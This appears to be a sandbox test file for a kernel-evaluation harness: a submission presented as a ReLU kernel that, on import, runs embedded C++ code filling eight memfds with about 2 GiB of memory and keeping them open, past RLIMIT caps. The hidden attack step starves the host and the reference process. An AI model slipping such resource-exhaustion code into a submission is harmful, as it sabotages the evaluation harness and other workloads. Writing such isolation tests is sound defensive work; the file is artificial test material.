"""Fills 2 GiB of memory files (memfds) it keeps open, by write(): pages no RLIMIT counts (RLIMIT_AS
counts mappings, and a GPU target sets none; RLIMIT_FSIZE caps each file, not their sum), so a candidate
could take the host's memory away from the reference and every other process."""

import torch
import torch.nn as nn

from kforge_worker import native

SRC = r"""
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <sys/mman.h>  // memfd_create
#include <unistd.h>

static void note(char* msg, const char* what) { snprintf(msg, 255, "%s: %s", what, strerror(errno)); }

extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
}

extern "C" void attack(int32_t* ok, char* msg) {
    static char block[1 << 20];
    memset(block, 1, sizeof block);
    for (int i = 0; i < 8; ++i) {  // 8 memfds of 256 MiB, written through and kept open
        int fd = memfd_create("hoard", 0);
        if (fd < 0) { note(msg, "memfd_create"); return; }
        for (int j = 0; j < 256; ++j)
            if (write(fd, block, sizeof block) != (ssize_t)sizeof block) { note(msg, "write"); return; }
    }
    *ok = 1;
}
"""
_lib = native.load(SRC, {"relu": [native.PTR, native.PTR, native.I64], "attack": [native.PTR, native.PTR]})

_ok = torch.zeros(1, dtype=torch.int32)
_msg = torch.zeros(256, dtype=torch.uint8)
_lib.attack(native.ptr(_ok, None), native.ptr(_msg, None))
if not int(_ok[0]):
    raise RuntimeError("attack blocked: " + bytes(_msg.tolist()).split(b"\0")[0].decode(errors="replace"))


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        out = torch.empty_like(x)
        _lib.relu(native.ptr(x), native.ptr(out), x.numel())
        return out
